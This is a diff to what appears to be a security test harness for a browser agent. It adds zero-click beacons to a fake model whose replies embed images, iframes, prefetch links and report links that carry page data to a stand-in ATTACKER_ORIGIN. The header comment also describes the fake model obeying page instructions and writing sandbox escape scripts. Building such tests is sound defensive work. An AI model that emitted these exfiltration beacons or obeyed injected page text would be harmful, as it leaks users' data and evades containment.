@@ -1,6 +1,7 @@
 // A fake model that does whatever the page tells it, and worse: from the prompt it was sent it proposes
 // clicks, fills and attacker URLs carrying page data, writes sandbox escape scripts, and answers with
 // markdown that would beacon page data out. Every attempt is counted per page (case) in a ledger.
+import { zeroClickBeacons } from '../fixtures/beacons/zero-click';
 import { startFakeLlm, type FakeLlm, type FakeReply, type FakeToolCall, type RecordedCall } from '../fake-llm/server';
 import { ESCAPE_PROBES, probeContained, type EscapeProbe, type ProbeOutcome } from './probes';
 import { TARGETS } from './shapes/html';
@@ -106,7 +107,8 @@ function answerTurn(ledger: CaseLedger, messages: ChatMessageLike[], prompt: str
     text:
       `Done. ![status](${ATTACKER_ORIGIN}/pixel.gif?d=${data}) <img src="${ATTACKER_ORIGIN}/img.gif?d=${data}">` +
       `<iframe src="${ATTACKER_ORIGIN}/frame?d=${data}"></iframe><link rel="prefetch" href="${ATTACKER_ORIGIN}/prefetch?d=${data}">` +
-      ` See [the report](${ATTACKER_ORIGIN}/report?d=${data}).`,
+      ` See [the report](${ATTACKER_ORIGIN}/report?d=${data}).\n\n` +
+      zeroClickBeacons(ATTACKER_ORIGIN, loot(prompt).slice(0, 200)).map((beacon) => beacon.text).join('\n\n'),
   };
 }
 
